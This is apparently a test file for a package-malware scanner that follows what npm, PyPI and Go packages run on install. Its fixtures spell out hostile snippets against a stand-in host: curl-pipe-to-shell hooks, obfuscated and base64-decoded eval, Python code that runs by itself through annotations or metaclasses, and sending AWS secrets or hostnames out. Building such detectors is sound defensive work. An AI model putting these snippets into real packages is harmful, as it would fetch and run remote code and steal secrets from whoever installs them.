import { array, assert, constantFrom, property } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { packageOf } from '../../test/samples.ts'
import type { EcosystemId } from '../core/types.ts'
import type { Action, Facts } from './facts.ts'
import { gatherFacts } from './gather.ts'

function facts(ecosystem: EcosystemId, files: Record<string, string>): Facts {
  return gatherFacts(packageOf({ says: '', ecosystem, files }).pkg)
}
const hook = (command: string, files: Record<string, string> = {}): Facts => facts('npm', { 'package.json': JSON.stringify({ scripts: { install: command } }), ...files })
const js = (code: string, files: Record<string, string> = {}): Facts => hook('node a.js', { 'a.js': code, ...files })
const py = (code: string, files: Record<string, string> = {}): Facts => facts('pypi', { 'setup.py': code, ...files })
const line = ({ kind, call, argument, from }: Action): string => `${kind}${from.length > 0 ? `<${from.join()}>` : ''} ${call} ${argument}`
const lines = (found: Facts): string[] => found.actions.map(line)
/** What runs without anybody calling for it. */
const byItself = (found: Facts): string[] => found.actions.filter(({ trigger }) => trigger.kind !== 'call' && trigger.kind !== 'file').map(line)

describe('command lines', () => {
  it.each([
    ['curl -s https://a.example/x | sh', ['fetch curl https://a.example/x', 'execute<fetched> sh sh']],
    ['sh -c "$(wget -qO- https://a.example/x)"', ['fetch wget https://a.example/x', 'execute<fetched> sh …']],
    ['X=$(curl https://a.example); eval "$X"', ['fetch curl https://a.example', 'execute<fetched> eval …']],
    ['wget https://a.example/run.sh && sh ./run.sh', ['fetch wget https://a.example/run.sh', 'execute<fetched> sh sh ./run.sh']],
    ['echo x | base64 --decode | sudo bash', ['decode base64 base64 --decode', 'execute<decoded> bash bash']],
    ['npx https://a.example/t.tgz', ['spawn npx npx https://a.example/t.tgz', 'fetch npx https://a.example/t.tgz', 'execute<fetched> npx https://a.example/t.tgz']],
    ['npm install left-pad@1', ['spawn npm npm install left-pad@1']],
    ['pip install --index-url=https://a.example/simple x', ['execute<fetched> pip https://a.example/simple']],
    ['curl -d "$(id)" https://a.example', ['collect<host> id id', 'send<host> curl https://a.example']],
    ['echo "curl https://a.example | sh"', []],
  ])('%s', (line, expected) => expect(lines(hook(line))).toEqual(expect.arrayContaining(expected)))

  it('follows a script of the package, at the right line', () => {
    const found = hook('npm run go', { 'package.json': '{"scripts":{"install":"npm run go","go":"bash ./s.sh"}}', 's.sh': '#!/bin/sh\n\ncurl https://a.example | sh\n' })
    expect(found.actions.find((action) => action.kind === 'fetch')).toMatchObject({ file: 's.sh', trigger: { name: 'install' } })
  })
})

describe('JavaScript', () => {
  it.each([
    ['split names', `const c = require('child' + '_process'); c['ex' + 'ec'](['cu', 'rl https://a.example'].join('') + '|sh')`, 'execute<fetched> sh sh'],
    ['destructuring', `const { execSync: run } = require('node:child_process'); run(\`curl \${'https://a.example'} | sh\`)`, 'execute<fetched> sh sh'],
    ['an import', `import { exec as e } from 'child_process'; e('curl https://a.example|sh')`, 'execute<fetched> sh sh'],
    ['a sequence callee', `const cp = require('child_process'); (0, cp.exec)('curl https://a.example|sh')`, 'execute<fetched> sh sh'],
    ['a wrapper function called twice', `const r = (c) => require('child_process').execSync(c); r('ls'); r('curl https://a.example|sh')`, 'execute<fetched> sh sh'],
    ['a promise', `fetch('https://a.example').then((r) => r.text()).then((t) => eval(t))`, 'execute<fetched> eval null'],
    ['await', `(async () => { const t = await (await fetch('https://a.example')).text(); new Function(t)() })()`, 'execute<fetched> Function null'],
    ['a class', `class A { go() { this.t = Buffer.from('eA==', 'base64') } run() { eval(this.t.toString()) } } const a = new A(); a.go(); a.run()`, 'execute<decoded> eval x'],
    ['char codes', `eval(String.fromCharCode(120, 49))`, 'execute<decoded> eval x1'],
    ['decoded code, read again', `eval(Buffer.from('${Buffer.from(`require('child_process').exec('curl https://a.example | sh')`).toString('base64')}', 'base64').toString())`, 'execute<fetched> sh sh'],
    ['a new process', `require('child_process').spawn(process.execPath, ['-e', 'eval(atob("eA=="))'])`, 'execute<decoded> eval x'],
  ])('follows %s', (_name, code, expected) => expect(lines(js(code))).toContain(expected))

  it('follows files it requires, and says where', () => {
    const found = js(`require('./lib').go()`, { 'lib/index.js': `exports.go = () => {\n  require('child_process').exec('id')\n}\n` })
    expect(found.actions.find((action) => action.kind === 'collect')).toMatchObject({ file: 'lib/index.js', lines: [2, 2] })
  })

  it('says of what nobody calls that somebody has to', () => {
    const found = js(`exports.f = function () { eval(atob('eA==')) }`)
    expect(byItself(found)).toEqual(['spawn node node a.js'])
    expect(found.actions.find(({ kind }) => kind === 'execute')).toMatchObject({ from: ['decoded'], trigger: { kind: 'call', file: 'a.js' } })
  })

  it('follows a command of its own that it starts by name, when only `#!python` says what it is', () => {
    const { pkg } = packageOf({ says: '', ecosystem: 'pypi', triggers: [{ kind: 'import', name: 'p', file: 'p/__init__.py' }, { kind: 'command', name: 'tool', file: 'p-1.data/scripts/tool' }], files: {
      'p/__init__.py': `import os\nos.system('tool --now')`, 'p-1.data/scripts/tool': `#!python\nimport urllib.request\nexec(urllib.request.urlopen('https://a.example').read())`,
    } })
    expect(byItself(gatherFacts(pkg))).toContain('execute<fetched> exec null')
    expect(gatherFacts(pkg).actions.find(({ kind }) => kind === 'execute')?.trigger.kind).toBe('import')
  })

  it('leaves methods of an instance to whoever calls them, or is handed the instance', () => {
    const found = (use: string): string[] => js(`class A { constructor() { this.x = 1 } run() { fetch('https://a.example/run') } }\n${use}`).actions.map(({ trigger, argument }) => `${trigger.kind} ${argument}`)
    expect(found('module.exports = new A()')).toContain('call https://a.example/run')
    expect(found('const a = new A(); a.run()')).toContain('install-hook https://a.example/run')
    expect(found('setTimeout(new A(), 5)')).toContain('install-hook https://a.example/run')
    expect(found('class B extends require("events") { run() { fetch("https://a.example/b") } }\nnew B()')).toContain('install-hook https://a.example/b')
  })

  it.each([
    ['getters', `class A { get x() { fetch('https://a.example') } }\nnew A().x`],
    ['what templates call', `class A { toString() { fetch('https://a.example') } }\nString(new A())`],
    ['fields', `class A { x = fetch('https://a.example') }\nnew A()`],
    ['functions in fields', `class A { run = () => fetch('https://a.example') }\nnew A().run()`],
    ['computed names', `class A { [fetch('https://a.example')]() {} }`],
    ['getters of a class', `class A { static get x() { fetch('https://a.example') } }\nA.x`],
    ['what an addition calls', `const a = { toString() { fetch('https://a.example') } }\n'' + a`],
    ['what a spread calls', `const a = { *[Symbol.iterator]() { fetch('https://a.example') } }\n;[...a]`],
    ['what awaits call', `class A { then(f) { fetch('https://a.example') } }\n;(async () => { await new A() })()`],
    ['what loops call', `class A { *[Symbol.iterator]() { fetch('https://a.example') } }\nfor (const x of new A()) x`],
    ['what an object gets once it has been handed out', `const a = {}; function give() { setTimeout(a); fetch('https://b.example').then(a) }\ngive(); a.run = () => fetch('https://a.example'); setTimeout(a)`],
  ])('runs %s by itself', (_name, code) => expect(byItself(js(code))).toContainEqual(expect.stringContaining('https://a.example')))

  it('puts together what is written to a file piece by piece', () => {
    const found = py(`import os
with open('/tmp/a.py', 'w') as f:
    f.write("import urllib.request\\n")
    f.write("t = urllib.request.urlopen('https://a.example').read()\\n")
    f.write("exec(t)\\n")
os.system('python3 /tmp/a.py')`)
    expect(lines(found)).toContain('execute<fetched> exec null')
  })

  it('survives imports in a circle', () => {
    expect(js(`require('./b'); eval(atob('eA=='))`, { 'b.js': `require('./a')` }).actions.some((action) => action.kind === 'execute')).toBe(true)
  })
})

describe('what Python runs by itself', () => {
  const go = `__import__('os').system('curl https://a.example')`
  it.each([
    ['annotations of variables', `x: ${go} = 1`],
    ['of variables that get no value', `x: ${go}`],
    ['of parameters', `def f(x: ${go}): pass`],
    ['of what is returned', `def f() -> ${go}: pass`],
    ['of methods', `class A:\n  def f(self, x: ${go}): pass`],
    ['defaults', `def f(x=${go}): pass`],
    ['defaults of a lambda', `f = lambda x=${go}: x`],
    ['decorators of methods', `class A:\n  @print(${go})\n  def f(self): pass`],
    ['decorators on one another', `@exec\n@lambda _: "${go}"\nclass A: pass`],
    ['arguments of a class', `class A(x=${go}): pass`],
    ['metaclasses', `class M(type):\n  def __new__(cls, *a): ${go}\nclass A(metaclass=M): pass`],
    ['what is told of heirs', `class A:\n  def __init_subclass__(cls): ${go}\nclass B(A): pass`],
    ['what with calls', `class A:\n  def __enter__(self): ${go}\n  def __exit__(self, *a): pass\nwith A(): pass`],
    ['what makes an object', `class A:\n  def __new__(cls): ${go}\nA()`],
    ['what ends an object', `class A:\n  def __del__(self): ${go}\nA()`],
    ['properties', `class A:\n  @property\n  def x(self): ${go}\nA().x`],
    ['causes of exceptions', `try:\n  raise ValueError from ${go}\nexcept Exception: pass`],
    ['what is caught', `try:\n  1 / 0\nexcept ${go}: pass`],
    ['what stands beside a deep line', `x = ${'await '.repeat(1500)}0\n${go}`],
    ['what stands beside what is deep', `x = [y${'.f()'.repeat(900)}, ${go}]`],
    ['the end of many alternatives', `if 0: pass\n${'elif 0: pass\n'.repeat(900)}else: ${go}`],
    ['what comes after many functions', `x = [${'lambda: '.repeat(1500)}0, ${go}]`],
    ['another encoding', `# coding: unicode_escape\n# \\n${go}`],
  ])('%s', (_name, code) => expect(byItself(py(code))).toContain('fetch curl https://a.example'))

  it('takes no look at a table for a request', () => {
    const found = (get: string): Action[] => py(`import os, requests\ns = requests.Session()\n${get}`).actions.filter(({ kind }) => kind === 'send')
    expect(found(`s.get('https://a.example/' + os.environ['AWS_SECRET_ACCESS_KEY'])`)).toHaveLength(1)
    const table = `t = requests.get('https://a.example').json()\nt.get(os.environ['AWS_SECRET_ACCESS_KEY']`
    expect(found(`${table}, '')`)).toEqual([])
  })

  it('says what it does not read', () => {
    expect(py('# coding: hz\nx').missing).toEqual(['setup.py: written in an encoding that is not read'])
    expect(py(`x = ${'await '.repeat(1500)}0`).missing).toEqual(['setup.py: nested too deeply to read'])
  })
})

describe('Python', () => {
  it.each([
    ['an alias', `import os as o\no.system('curl https://a.example | sh')`, 'execute<fetched> sh sh'],
    ['from', `from subprocess import call as c\nc(['curl', 'https://a.example'])`, 'fetch curl https://a.example'],
    ['formats', `import os\nos.system('curl %s | sh' % 'https://a.example')\n`, 'fetch curl https://a.example'],
    ['f-strings', `import os\nh = 'a.example'\nos.system(f"curl https://{h}/x")\n`, 'fetch curl https://a.example/x'],
    ['getattr', `import os\ngetattr(os, 'sys' + 'tem')('curl https://a.example')`, 'fetch curl https://a.example'],
    ['methods that are asked of their class', `import os\nclass D:\n  @staticmethod\n  def go(line):\n    os.system('curl https://a.example/' + line)\nD.go('x')`, 'fetch curl https://a.example/x'],
    ['what a class holds', `import requests\nclass C:\n  URL = 'https://a.example/c'\nrequests.get(C.URL)`, 'fetch requests.get https://a.example/c'],
    ['names that are looked up', `import socket\nsocket.gethostbyname('%s.a.example' % socket.gethostname())`, 'send<host> socket.gethostbyname ….a.example'],
    ['a temporary file', `import requests, os, sys, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(requests.get('https://a.example').content)\nos.system(f'{sys.executable} {t.name}')`, 'execute<fetched> python python /tmp/temporary-39'],
    ['names in other letters', `__𝘪𝘮𝘱𝘰𝘳𝘵__('os').system('curl https://a.example')`, 'fetch curl https://a.example'],
    ['builtins by way of globals', `g = globals\nb = getattr(g()['__builtins__'], '__import__')\nb('os').system('curl https://a.example')`, 'fetch curl https://a.example'],
    ['an address that replaced its encoding', `import base64, requests\nu = 'aHR0cHM6Ly9hLmV4YW1wbGU='\nu = base64.b64decode(u)\nrequests.get(u)`, 'fetch requests.get https://a.example'],
    ['Windows paths', `import os, requests\nf = os.environ['TEMP'] + '\\\\a.exe'\nopen(f, 'wb').write(requests.get('https://a.example').content)\nos.system(f)`, 'spawn<fetched> a /tmp\\a.exe'],
    ['a with block', `import requests, subprocess\nwith open('r.py', 'wb') as f:\n  f.write(requests.get('https://a.example').content)\nsubprocess.run(['python', 'r.py'])`, 'execute<fetched> python python r.py'],
    ['a command class', `from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n  def run(self):\n    self.go()\n  def go(self):\n    import os; os.system('curl https://a.example')\nsetup(cmdclass={'install': I})`, 'fetch curl https://a.example'],
    ['print statements', `print "x"\nimport urllib2\nexec urllib2.urlopen('https://a.example').read()`, 'execute<fetched> exec null'],
    ['hex', `exec(bytes.fromhex('78'))`, 'execute<decoded> exec x'],
  ])('follows %s', (_name, code, expected) => expect(lines(py(code))).toContain(expected))

  it('does not run in one script what another one cloned', () => {
    const found = py('', { 'a.sh': 'git clone --branch v0.2.0 git@git.example:x/y.git', 'b.sh': './tools/build.sh' })
    expect(lines(found)).toContain('fetch git git@git.example:x/y.git')
    expect(lines(found).filter((one) => one.startsWith('spawn<') || one.startsWith('execute<'))).toEqual([])
  })

  it('says of classes that are not registered that somebody has to use them', () => {
    expect(byItself(py(`import os\nclass I:\n  def run(self):\n    os.system('curl https://a.example')\n`))).toEqual([])
  })

  it('reads only the import lines of a .pth', () => {
    expect(lines(facts('pypi', { 'x.pth': 'folder\n# import os\nimport os; os.system("id")\n' }))).toEqual(['collect<host> id id'])
  })
})

describe('Go', () => {
  const go = (code: string): Facts => facts('go', { 'a.go': `package a\nimport x "os/exec"\nimport "net/http"\n${code}` })
  it.each([
    ['init', `func init() { x.Command("sh", "-c", "curl https://a.example" + "|sh").Run() }`, 'execute<fetched> sh sh'],
    ['a variable', `var r, _ = http.Get("https://a.example")`, 'fetch net/http.Get https://a.example'],
    ['a called function', `func f() { http.Get("https://a.example") }\nfunc init() { f() }`, 'fetch net/http.Get https://a.example'],
  ])('follows %s', (_name, code, expected) => expect(lines(go(code))).toContain(expected))
  it('leaves alone functions, comments and strings', () => {
    expect(byItself(go('func F() { x.Command("id") }\n/* func init() { x.Command("id") } */\nvar s = `func init() { x.Command("id") }`'))).toEqual([])
  })
})

describe('hostile code', () => {
  it.each([
    ['brackets', js('('.repeat(50_000))],
    ['calls', js('f('.repeat(5_000) + ')'.repeat(5_000))],
    ['Python lists', py(`x = ${'['.repeat(50_000)}`)],
    ['substitutions', hook('$('.repeat(2_000))],
  ])('names what it could not follow: %s', (_name, found) => expect(found.missing.length).toBeGreaterThan(0))

  it('says when only the beginning of a file was there', () => {
    const { pkg } = packageOf({ says: '', ecosystem: 'npm', files: { 'package.json': '{"scripts":{"install":"node a.js"}}', 'a.js': 'x()' } })
    const file = pkg.files.get('a.js')
    if (!file) throw new Error('no file')
    const cut = { ...pkg, files: new Map(pkg.files).set('a.js', { ...file, truncated: true }) }
    expect(gatherFacts(cut).missing).toEqual(['a.js: only its beginning was read'])
  })

  it('folds doubling text without growing', () => {
    expect(js(`let x = 'aaaaaaaaaa'\n${'x = x + x\n'.repeat(200)}eval(x)`).missing).toEqual([])
  })

  const piece = constantFrom('eval', '(', ')', '{', '}', '[', ']', "'a'", '"', '`', '${', '=>', '.', ',', ';', '\n', ' ', 'x', '=', 'def f', ':', 'class', 'import', '\\', '<(', '|', '&', 'exec', '\0', '…', '__proto__', 'constructor')
  it('never throws', () => {
    assert(property(array(piece, { maxLength: 60 }), (pieces) => {
      const text = pieces.join('')
      for (const found of [js(text), py(text), hook(text), facts('go', { 'a.go': text }), facts('npm', { 'package.json': '{}', 'binding.gyp': text })]) {
        for (const action of found.actions) expect(action.lines[0]).toBeGreaterThan(0)
      }
    }), { numRuns: 300, seed: 7 })
  })
})
